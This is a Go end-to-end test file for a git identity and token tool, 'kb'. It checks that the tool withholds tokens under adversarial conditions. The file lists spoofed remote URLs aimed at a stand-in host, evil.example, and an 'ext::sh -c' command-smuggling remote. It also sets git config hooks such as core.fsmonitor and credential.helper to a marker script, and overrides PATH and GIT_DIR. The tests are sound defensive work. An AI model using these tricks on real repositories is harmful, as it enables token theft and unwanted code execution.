package e2e

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"kb/internal/testkit"
)

// identities is an arena of two profiles: work by a remote rule for
// github.com/acme/*, oss by a directory rule for ~/oss. Its second canary is the
// token of oss.
type identities struct {
	*arena
	git     *testkit.Git
	evilGit *testkit.Git
	workDir string // clone of github.com/acme/api
	ossDir  string // clone of github.com/libre/tool, under ~/oss
}

func newIdentities(t *testing.T) *identities {
	t.Helper()
	a := &arena{
		World: testkit.Namespace(t), t: t, kb: testkit.BuildKB(t), home: testkit.NewHome(t),
		work: testkit.NewCanary("ghp_", 36), acme: testkit.NewCanary("ghp_", 36),
		own: map[string]bool{goodHost: true, "github.com": true},
	}
	i := &identities{arena: a, git: testkit.NewGit(t), evilGit: testkit.NewGit(t)}
	i.git.Users = map[string]string{a.work: "me-at-acme", a.acme: "me-at-home"}
	a.serve("github.com", testkit.OriginConfig{Handler: i.git})
	a.good = a.serve(goodHost, testkit.OriginConfig{Handler: &testkit.GitHub{Users: i.git.Users}})
	a.evil = a.serve(evilHost, testkit.OriginConfig{Handler: i.evilGit, HTTP1: true, Plain: testkit.Lab()})
	a.serve("github.com.evil.example", testkit.OriginConfig{Handler: i.evilGit, HTTP1: true})
	a.ok("", "init")
	for _, p := range []string{"work", "oss"} {
		a.ok("", "profile", "add", p, "--git-email", "me@"+p+".example", "--git-name", "Me")
	}
	a.ok("", "rule", "add", "work", "--remote", "github.com/acme/*")
	a.ok("", "rule", "add", "oss", "--dir", "~/oss/**")
	a.ok(a.work, "login", "github", "-p", "work", "--stdin", "--no-verify")
	a.ok(a.acme, "login", "github", "-p", "oss", "--stdin", "--no-verify")
	i.workDir, i.ossDir = filepath.Join(a.home.Dir, "api"), filepath.Join(a.home.Dir, "oss", "tool")
	a.ok("", "exec", "-p", "work", "--", "git", "clone", "-q", "https://github.com/acme/api.git", i.workDir)
	a.ok("", "exec", "-p", "oss", "--", "git", "clone", "-q", "https://github.com/libre/tool.git", i.ossDir)
	// The first start in each pins it.
	i.in(i.workDir, a.kb, "exec", "--", "true")
	i.in(i.ossDir, a.kb, "exec", "--", "true")
	t.Cleanup(func() {
		attackTotals.cases += a.cases
		attackTotals.stopped += a.stopped
		attackTotals.controls += a.controls
		fmt.Printf("%s: %d cases, %d stopped, %d controls tripped\n", t.Name(), a.cases, a.stopped, a.controls)
	})
	return i
}

// in runs a command in a directory.
func (i *identities) in(dir string, args ...string) testkit.Result {
	i.t.Helper()
	return i.with(dir, nil, args...)
}

func (i *identities) with(dir string, env []string, args ...string) testkit.Result {
	i.t.Helper()
	return testkit.Exec(i.t, testkit.Command{Dir: dir, Env: i.home.With(env...), Args: args, Limit: time.Minute})
}

// must runs git outside of any session.
func (i *identities) must(dir string, args ...string) {
	i.t.Helper()
	if r := i.in(dir, append([]string{"git"}, args...)...); r.Code != 0 {
		i.t.Fatalf("git %v: %s", args, r.All())
	}
}

// mixed lists the requests that carried a token to another repository than its
// own: the token of work belongs to acme's, that of oss to all others.
func (i *identities) mixed() []string {
	var wrong []string
	for _, x := range i.git.Accesses() {
		acme := strings.HasPrefix(strings.ToLower(x.Repository), "acme/")
		if x.Token == i.work && !acme || x.Token == i.acme && acme {
			wrong = append(wrong, x.Path)
		}
	}
	for _, r := range i.good.Requests() {
		acme := strings.Contains(strings.ToLower(unescapeAll(r.Path)), "acme/api")
		if r.Credential() == i.work && !acme || r.Credential() == i.acme && acme {
			wrong = append(wrong, r.Path)
		}
	}
	return wrong
}

// unescapeAll reads a path as the most generous server would.
func unescapeAll(path string) string {
	for range 3 {
		path = strings.NewReplacer("%2f", "/", "%2F", "/", "%61", "a", "%41", "A", "%2e", ".", "%2E", ".", "//", "/", "/./", "/", "%25", "%").Replace(path)
	}
	return path
}

// trick is an attack after which no token is where it does not belong.
func (i *identities) trick(name string, run func(t *testing.T) answer, statuses ...int) {
	i.t.Helper()
	i.attack(name, at{origin: i.evil}, func(t *testing.T) answer {
		i.git.Forget()
		got := run(t)
		for _, path := range i.mixed() {
			t.Errorf("a token went to a repository that is not its own: %s", path)
		}
		return got
	}, statuses...)
}

// asks checks that kb exec in dir runs nothing, because the directory's profile
// has changed and nobody is there to accept it.
func (i *identities) asks(t *testing.T, dir string, env ...string) answer {
	t.Helper()
	r := i.with(dir, env, i.kb, "exec", "--", "echo", "RAN")
	if r.Code == 0 || strings.Contains(r.Stdout, "RAN") {
		t.Errorf("the session was started: %s", r.All())
	}
	if !strings.Contains(r.Stderr, "had profile") {
		t.Errorf("it was not the pin that stopped it: %s", r.All())
	}
	return answer{text: r.All()}
}

// TestAttackIdentityTricks has a repository, its configuration, the environment
// or a request name another identity than the session's.
func TestAttackIdentityTricks(t *testing.T) {
	i := newIdentities(t)
	session := func(dir, script string, env ...string) answer {
		r := i.with(dir, env, i.kb, "exec", "--", "sh", "-c", script)
		return answer{text: r.All()}
	}
	const setWork = "git remote set-url origin https://github.com/acme/api.git; "
	const back = "; git remote set-url origin https://github.com/libre/tool.git"

	i.trick("remote set-url after the start", func(t *testing.T) answer {
		return session(i.ossDir, setWork+"git fetch; git push origin HEAD:x"+back)
	})
	i.trick("remote set-url to evil after the start", func(t *testing.T) answer {
		return session(i.ossDir, "git remote set-url origin https://"+evilHost+"/libre/tool.git; git fetch; git push origin HEAD:x"+back)
	})
	i.trick("remote set-url to userinfo of the good host after the start", func(t *testing.T) answer {
		return session(i.ossDir, "git remote set-url origin https://github.com:443@"+evilHost+"/libre/tool.git; git fetch"+back)
	})
	i.trick("remote set-url before the next start", func(t *testing.T) answer {
		i.must(i.ossDir, "remote", "set-url", "origin", "https://github.com/acme/api.git")
		defer i.must(i.ossDir, "remote", "set-url", "origin", "https://github.com/libre/tool.git")
		return i.asks(t, i.ossDir)
	})
	i.trick("insteadOf before the next start", func(t *testing.T) answer {
		i.must(i.ossDir, "config", "url.https://github.com/acme/api.git.insteadOf", "https://github.com/libre/tool.git")
		defer i.must(i.ossDir, "config", "--unset", "url.https://github.com/acme/api.git.insteadOf")
		return i.asks(t, i.ossDir)
	})
	i.trick("pushurl before the next start", func(t *testing.T) answer {
		i.must(i.ossDir, "remote", "set-url", "--push", "origin", "git@github.com:acme/api.git")
		defer i.must(i.ossDir, "config", "--unset", "remote.origin.pushurl")
		return i.asks(t, i.ossDir)
	})
	i.trick("insteadOf after the start", func(t *testing.T) answer {
		return session(i.ossDir, "git -c url.https://github.com/acme/api.git.insteadOf=https://github.com/libre/tool.git fetch")
	})
	i.trick("insteadOf to evil", func(t *testing.T) answer {
		return session(i.workDir, "git -c url.https://"+evilHost+"/.insteadOf=https://github.com/ fetch")
	})
	i.trick("ssh remote with insteadOf to evil", func(t *testing.T) answer {
		return session(i.workDir, "git -c url.https://"+evilHost+"/.insteadOf=git@github.com: fetch git@github.com:acme/api.git")
	})
	i.trick("two remotes", func(t *testing.T) answer {
		i.must(i.ossDir, "remote", "add", "upstream", "https://github.com/acme/api.git")
		defer i.must(i.ossDir, "remote", "remove", "upstream")
		got := session(i.ossDir, "echo profile=$KB_PROFILE; git fetch upstream; git push upstream HEAD:x; git fetch --all")
		if !strings.Contains(got.text, "profile=oss") {
			t.Errorf("a second remote decided: %s", got.text)
		}
		return got
	})
	i.trick("symlinked cwd", func(t *testing.T) answer {
		link := filepath.Join(i.home.Dir, "oss", "link")
		if err := os.Symlink(i.workDir, link); err != nil {
			t.Fatal(err)
		}
		defer func() { _ = os.Remove(link) }()
		got := session(link, "echo profile=$KB_PROFILE; git fetch", "PWD="+link)
		if !strings.Contains(got.text, "profile=work") {
			t.Errorf("the link's place decided: %s", got.text)
		}
		return got
	})
	i.trick("a link from another place into ~/oss", func(t *testing.T) answer {
		link := filepath.Join(i.home.Dir, "elsewhere")
		if err := os.Symlink(i.ossDir, link); err != nil {
			t.Fatal(err)
		}
		defer func() { _ = os.Remove(link) }()
		got := session(link, "echo profile=$KB_PROFILE; git fetch", "PWD="+i.workDir)
		if !strings.Contains(got.text, "profile=oss") {
			t.Errorf("the link's place decided: %s", got.text)
		}
		return got
	})
	i.trick("worktree", func(t *testing.T) answer {
		tree := filepath.Join(i.home.Dir, "oss", "wt")
		i.must(i.workDir, "worktree", "add", "-q", "--detach", tree)
		defer i.must(i.workDir, "worktree", "remove", "--force", tree)
		got := session(tree, "echo profile=$KB_PROFILE; git fetch")
		if !strings.Contains(got.text, "profile=work") {
			t.Errorf("the worktree's place decided: %s", got.text)
		}
		return got
	})
	i.trick("submodule", func(t *testing.T) answer {
		return session(i.ossDir, "git submodule add -q https://github.com/acme/api.git sub; rm -rf sub .gitmodules .git/modules; git reset -q --hard")
	})
	i.trick(".git file that names another repository", func(t *testing.T) answer {
		return i.replacingGit(t, func(dotGit string) error {
			return os.WriteFile(dotGit, []byte("gitdir: "+i.workDir+"/.git\n"), 0o600)
		})
	})
	i.trick(".git link that names another repository", func(t *testing.T) answer {
		return i.replacingGit(t, func(dotGit string) error { return os.Symlink(i.workDir+"/.git", dotGit) })
	})
	i.trick("commondir that names another repository", func(t *testing.T) answer {
		file := filepath.Join(i.ossDir, ".git", "commondir")
		if err := os.WriteFile(file, []byte(i.workDir+"/.git\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		defer func() { _ = os.Remove(file) }()
		return i.asks(t, i.ossDir)
	})
	i.trick(".git gone, and a repository around it", func(t *testing.T) answer {
		return i.replacingGit(t, func(dotGit string) error {
			around := filepath.Join(i.home.Dir, "oss", ".git")
			t.Cleanup(func() { _ = os.RemoveAll(around) })
			i.must(i.home.Dir, "init", "-q", filepath.Join(i.home.Dir, "oss"))
			i.must(filepath.Join(i.home.Dir, "oss"), "remote", "add", "origin", "https://github.com/acme/api.git")
			return nil
		})
	})
	i.trick("a repository inside the repository", func(t *testing.T) answer {
		inner := filepath.Join(i.ossDir, "src")
		i.must(i.ossDir, "init", "-q", inner)
		defer func() { _ = os.RemoveAll(inner) }()
		i.must(inner, "remote", "add", "origin", "https://github.com/acme/api.git")
		return i.asks(t, inner)
	})
	i.trick("a repository where there was none", func(t *testing.T) answer {
		notes := filepath.Join(i.home.Dir, "oss", "notes")
		if err := os.Mkdir(notes, 0o700); err != nil {
			t.Fatal(err)
		}
		if r := i.in(notes, i.kb, "exec", "--", "true"); r.Code != 0 {
			t.Fatal(r.All())
		}
		i.must(notes, "init", "-q")
		i.must(notes, "remote", "add", "origin", "https://github.com/acme/api.git")
		return i.asks(t, notes)
	})
	for _, name := range []string{"GIT_DIR", "GIT_COMMON_DIR"} {
		i.trick(name, func(t *testing.T) answer {
			env := []string{name + "=" + i.workDir + "/.git"}
			got := session(i.ossDir, "echo profile=$KB_PROFILE; git fetch; git push origin HEAD:x", env...)
			if !strings.Contains(got.text, "profile=oss") {
				t.Errorf("%s decided: %s", name, got.text)
			}
			return got
		})
	}
	i.trick("GIT_CONFIG_COUNT with insteadOf", func(t *testing.T) answer {
		got := session(i.ossDir, "echo profile=$KB_PROFILE; git fetch", "GIT_CONFIG_COUNT=1",
			"GIT_CONFIG_KEY_0=url.https://github.com/acme/api.git.insteadOf", "GIT_CONFIG_VALUE_0=https://github.com/libre/tool.git")
		if !strings.Contains(got.text, "profile=oss") {
			t.Errorf("the environment decided: %s", got.text)
		}
		return got
	})
	i.remoteURLs(t)
	i.gitExecutes(t)
	i.requests(t)
}

// replacingGit starts kb in oss's clone while its .git is another thing.
func (i *identities) replacingGit(t *testing.T, replace func(dotGit string) error) answer {
	t.Helper()
	dotGit := filepath.Join(i.ossDir, ".git")
	aside := filepath.Join(i.home.Dir, "aside.git")
	if err := os.Rename(dotGit, aside); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = os.Remove(dotGit)
		if err := os.Rename(aside, dotGit); err != nil {
			t.Fatal(err)
		}
	}()
	if err := replace(dotGit); err != nil {
		t.Fatal(err)
	}
	return i.asks(t, i.ossDir)
}

// remoteURLs gives a new repository remotes that look like acme's and are not.
func (i *identities) remoteURLs(t *testing.T) {
	dir := filepath.Join(i.home.Dir, "fresh")
	i.must(i.home.Dir, "init", "-q", dir)
	for _, url := range []string{
		"https://github.com@evil.example/acme/api", "https://github.com/acme@evil.example/x", "https://github.com:443@evil.example/acme/api",
		"git@github.com:evil.example/../acme/api", "https://github.com/evil/../acme/api", "https://github.com/evil/%2e%2e/acme/api",
		"ssh://git@evil.example/github.com/acme/api", "git@evil.example:github.com/acme/api", "https://evil.example/https://github.com/acme/api",
		`https://github.com\@evil.example/acme/api`, "https://github.com#@evil.example/acme/api", "https://github.com?@evil.example/acme/api",
		"https://github.com.evil.example/acme/api", "https://evil.example/github.com/acme/api", "ssh://github.com%2Facme@evil.example/api",
		"git@github.com@evil.example:acme/api", "https://github.com:8443/acme/api", "github.com/acme/api", "file://github.com/acme/api",
		"https://github.com%2Facme/api", "https://ｇithub.com/acme/api", "ext::sh -c touch% pwned github.com/acme/api",
	} {
		i.trick("remote "+url, func(t *testing.T) answer {
			if r := i.in(dir, "git", "config", "remote.origin.url", url); r.Code != 0 {
				t.Fatal(r.All())
			}
			// As if a person had named the profile: any repository of the good host
			// may then see its token.
			forced := i.in(dir, i.kb, "exec", "-p", "work", "--", "git", "-c", "core.sshCommand=false", "fetch")
			i.git.Forget()
			r := i.in(dir, i.kb, "exec", "--", "sh", "-c", "echo profile=$KB_PROFILE; git fetch")
			if strings.Contains(r.Stdout, "profile=work") {
				t.Errorf("it was taken for acme's: %s", r.All())
			}
			return answer{text: r.All() + forced.All()}
		})
	}
}

// gitExecutes has a repository's configuration, and PATH, name programs: kb reads
// git and starts nothing of the repository's.
func (i *identities) gitExecutes(t *testing.T) {
	mark := filepath.Join(i.home.Dir, "executed")
	script := filepath.Join(i.home.Dir, "mark.sh")
	if err := os.WriteFile(script, []byte("#!/bin/sh\ntouch "+mark+"\nexec /usr/bin/git \"$@\"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	ran := func(t *testing.T, r testkit.Result) answer {
		t.Helper()
		if err := os.Remove(mark); err == nil {
			t.Errorf("a program of the repository was run: %s", r.All())
		}
		return answer{text: r.All()}
	}
	for _, key := range []string{"core.fsmonitor", "core.pager", "core.sshCommand", "core.askPass", "core.gitProxy", "credential.helper", "core.hooksPath", "alias.config", "trace2.eventTarget"} {
		i.trick("git config "+key, func(t *testing.T) answer {
			i.must(i.ossDir, "config", key, script)
			defer i.must(i.ossDir, "config", "--unset", key)
			return ran(t, i.in(i.ossDir, i.kb, "exec", "--", "true"))
		})
	}
	i.trick("git config that includes a FIFO", func(t *testing.T) answer {
		fifo := filepath.Join(i.home.Dir, "fifo")
		if err := syscall.Mkfifo(fifo, 0o600); err != nil {
			t.Fatal(err)
		}
		config := filepath.Join(i.ossDir, ".git", "config")
		old, err := os.ReadFile(config)
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = os.WriteFile(config, old, 0o600) }()
		if err := os.WriteFile(config, append(bytes.Clone(old), "[include]\n\tpath = "+fifo+"\n"...), 0o600); err != nil {
			t.Fatal(err)
		}
		began := time.Now()
		r := i.in(i.ossDir, i.kb, "which")
		if d := time.Since(began); d > attackPatience {
			t.Errorf("kb which took %v", d)
		}
		return answer{text: r.All()}
	})
	for _, program := range []string{"git", "ssh"} {
		for _, folder := range []string{"bin", "./node_modules/.bin", ".", ""} {
			i.trick(program+" of a relative PATH entry "+folder, func(t *testing.T) answer {
				at := filepath.Join(i.ossDir, folder)
				if err := os.MkdirAll(at, 0o700); err != nil {
					t.Fatal(err)
				}
				body, err := os.ReadFile(script)
				if err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(at, program), body, 0o700); err != nil {
					t.Fatal(err)
				}
				defer func() { _ = os.Remove(filepath.Join(at, program)) }()
				if program == "ssh" { // asked for host aliases only
					i.must(i.ossDir, "remote", "set-url", "origin", "git@alias:libre/tool.git")
					defer i.must(i.ossDir, "remote", "set-url", "origin", "https://github.com/libre/tool.git")
					if err := os.MkdirAll(filepath.Join(i.home.Dir, ".ssh"), 0o700); err != nil {
						t.Fatal(err)
					}
					if err := os.WriteFile(filepath.Join(i.home.Dir, ".ssh", "config"), []byte("Host alias\n  HostName github.com\n"), 0o600); err != nil {
						t.Fatal(err)
					}
					defer func() { _ = os.RemoveAll(filepath.Join(i.home.Dir, ".ssh")) }()
				}
				r := i.with(i.ossDir, []string{"PATH=" + folder + ":" + os.Getenv("PATH"), "GODEBUG=execerrdot=0"}, i.kb, "which")
				return ran(t, r)
			})
		}
	}
}
